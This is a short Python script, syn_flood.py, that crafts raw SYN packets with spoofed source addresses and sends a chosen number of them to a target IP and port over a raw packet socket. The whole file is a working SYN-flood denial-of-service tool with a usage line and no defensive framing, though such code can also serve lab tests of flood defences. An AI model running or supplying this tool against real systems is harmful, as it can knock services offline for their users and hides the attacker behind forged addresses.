"""SYNs of many senders that do not exist: `python syn_flood.py DEVICE MAC ADDRESS PORT COUNT`."""

import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(mac: bytes, source: bytes, target: bytes, port: int, chance: random.Random) -> bytes:
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target))
    ip[10:12] = checksum(ip).to_bytes(2, "big")
    tcp = bytearray(struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 0x50, 2,
                                64000, 0, 0))
    tcp[16:18] = checksum(source + target + struct.pack("!HH", 6, 20) + tcp).to_bytes(2, "big")
    return mac + b"\2\0\0\0\0\x63" + b"\x08\0" + ip + tcp


def main(device: str, mac: str, address: str, port: int, count: int) -> None:
    chance = random.Random(1)
    target = socket.inet_aton(address)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0))
        for number in range(count):
            source = target[:3] + bytes([100 + number % 100])
            sock.send(syn(bytes.fromhex(mac.replace(":", "")), source, target, port, chance))
    print("sent", count)


main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
